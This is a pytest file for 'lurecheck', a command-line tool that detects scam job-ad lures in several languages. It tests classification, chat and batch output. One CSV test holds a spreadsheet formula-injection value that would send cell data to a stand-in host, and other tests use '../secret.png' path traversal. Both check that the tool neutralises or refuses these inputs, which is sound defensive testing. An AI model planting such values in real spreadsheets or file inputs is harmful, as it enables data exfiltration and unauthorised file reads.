"""The `lurecheck` command as a user runs it (a real subprocess of the installed console script)."""
import json
import subprocess
import sys
from pathlib import Path

import pytest

from tests.conftest import LURES, ROOT

EXE = Path(sys.executable).with_name("lurecheck")


def run(*args, stdin: str | None = None, timeout: int = 120):
    cmd = [str(EXE), *args] if EXE.exists() else [sys.executable, "-m", "bot.cli", *args]
    return subprocess.run(cmd, input=stdin, capture_output=True, text=True, timeout=timeout, cwd=ROOT)


def test_help_everywhere():
    for args in ([], ["check"], ["classify"], ["chat"], ["run"], ["content"], ["content", "validate"]):
        r = run(*args, "--help")
        assert r.returncode == 0 and "usage: lurecheck" in r.stdout, args


@pytest.mark.parametrize("ad", ["vi", "ko", "km"])
@pytest.mark.parametrize("ui", ["vi", "ko", "km", "en"])
def test_check_explains_a_lure_in_every_ui_language(ad, ui):
    r = run("check", LURES[ad], "--lang-ui", ui)
    assert r.returncode == 0, r.stderr
    first = r.stdout.splitlines()[0]
    assert first.startswith("🚨")
    assert r.stdout.count("“") >= 3  # evidence quoted from the ad


def test_check_json_and_stdin():
    r = run("check", "-", "--json", stdin=LURES["ko"])
    v = json.loads(r.stdout)
    assert v["level"] == "high_risk" and v["lang"] == "ko" and v["reasons"] and v["hotlines"]


def test_classify_keeps_every_line(tmp_path):
    src = tmp_path / "in.jsonl"
    lines = [json.dumps({"id": 1, "text": LURES["vi"]}, ensure_ascii=False), "{not json", json.dumps({"id": 3}),
             json.dumps({"id": 4, "text": ""}), json.dumps({"id": 5, "text": "Tuyển kế toán, công ty TNHH ABC"})]
    src.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "out.jsonl"
    r = run("classify", "--input", str(src), "--output", str(out))
    assert r.returncode == 0, r.stderr
    rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert len(rows) == 5
    assert rows[0]["id"] == 1 and rows[0]["level"] == "high_risk" and 0 <= rows[0]["score"] <= 1
    assert set(rows[0]) >= {"lang", "level", "score", "reasons", "is_job_offer"}
    assert "error" in rows[1] and rows[1]["line"] == 2
    assert rows[2]["id"] == 3 and "error" in rows[2]
    assert rows[3]["id"] == 4 and "error" in rows[3]
    assert rows[4]["id"] == 5 and rows[4]["level"] == "low_risk" and "error" not in rows[4]
    assert "5 lines written" in r.stderr


def test_classify_missing_input_is_a_clear_error(tmp_path):
    r = run("classify", "--input", str(tmp_path / "nope.jsonl"), "--output", str(tmp_path / "o.jsonl"))
    assert r.returncode == 2 and "not found" in r.stderr


def test_chat_conversation():
    script = "9\n2\n" + LURES["ko"] + "\n\n/help\n/lang\n4\n안녕하세요\n\n/quit\n"
    r = run("chat", stdin=script)
    assert r.returncode == 0, r.stderr
    out = r.stdout
    assert "LureCheck" in out and "🚨" in out
    assert "Language set to English." in out and "Goodbye. Stay safe." in out


def test_run_without_token_opens_the_chat(monkeypatch):
    monkeypatch.delenv("TELEGRAM_BOT_TOKEN", raising=False)
    r = run("run", stdin="4\n/quit\n")
    assert r.returncode == 0 and "Goodbye" in r.stdout


def test_content_validate():
    r = run("content", "validate")
    assert r.returncode == 0 and "all valid" in r.stdout


# ---------------------------------------------------------------- issue 13: batch (items 1, 21, 22)
def _classify_lines(tmp_path, lines: list[dict], **kw) -> list[dict]:
    import io

    from bot.cli.batch import classify_stream
    from classifier import Checker

    src = io.StringIO("".join(json.dumps(x, ensure_ascii=False) + "\n" for x in lines))
    dst = io.StringIO()
    classify_stream(src, dst, Checker(), progress=False, image_dir=tmp_path / "in", **kw)
    return [json.loads(x) for x in dst.getvalue().splitlines()]


def test_classify_reads_images_only_in_the_input_folder(tmp_path):
    (tmp_path / "in").mkdir()
    secret = tmp_path / "secret.png"
    secret.write_bytes(b"not an image")
    lines = [{"id": 1, "image": str(secret)}, {"id": 2, "image": "../secret.png"}, {"id": 3, "image": "missing.png"}]
    rows = _classify_lines(tmp_path, lines)
    assert "outside the input file's folder" in rows[0]["error"] and "--allow-images-anywhere" in rows[0]["error"]
    assert "outside the input file's folder" in rows[1]["error"]
    assert "outside" not in rows[2]["error"]  # inside the folder: read (here: not found)
    rows = _classify_lines(tmp_path, lines[:2], allow_images_anywhere=True)
    assert all("outside" not in r["error"] for r in rows)


def test_classify_says_when_a_text_was_checked_in_part(tmp_path):
    rows = _classify_lines(tmp_path, [{"text": LURES["en"] + " " + "x" * 25_000}, {"text": LURES["vi"]}])
    assert rows[0]["truncated"] is True and rows[1]["truncated"] is False


def test_classify_csv_neutralises_cells_and_marks_truncation(tmp_path):
    import csv

    from bot.cli.batch import classify_file
    from classifier import Checker

    src, dst = tmp_path / "in.csv", tmp_path / "out.csv"
    with src.open("w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows([["source", "text"], ['=HYPERLINK("http://x/?"&A1,"Click")', LURES["vi"]],
                                 ["web", LURES["en"] + " " + "y" * 25_000]])
    classify_file(src, dst, Checker(), progress=False)
    rows = list(csv.DictReader(dst.read_text(encoding="utf-8-sig").splitlines()))
    assert rows[0]["source"] == '\'=HYPERLINK("http://x/?"&A1,"Click")'
    assert [r["truncated"] for r in rows] == ["False", "True"]


def test_classify_command_confines_images_unless_the_flag_allows(tmp_path):
    (tmp_path / "in").mkdir()
    (tmp_path / "secret.png").write_bytes(b"not an image")
    src = tmp_path / "in" / "ads.jsonl"
    src.write_text(json.dumps({"id": 1, "image": "../secret.png"}) + "\n", encoding="utf-8")
    out = tmp_path / "out.jsonl"
    r = run("classify", "--input", str(src), "--output", str(out), "--quiet")
    assert r.returncode == 0, r.stderr
    assert "outside the input file's folder" in json.loads(out.read_text(encoding="utf-8"))["error"]
    r = run("classify", "--input", str(src), "--output", str(out), "--quiet", "--allow-images-anywhere")
    assert r.returncode == 0, r.stderr
    assert "outside" not in json.loads(out.read_text(encoding="utf-8"))["error"]  # read (here: not an image)
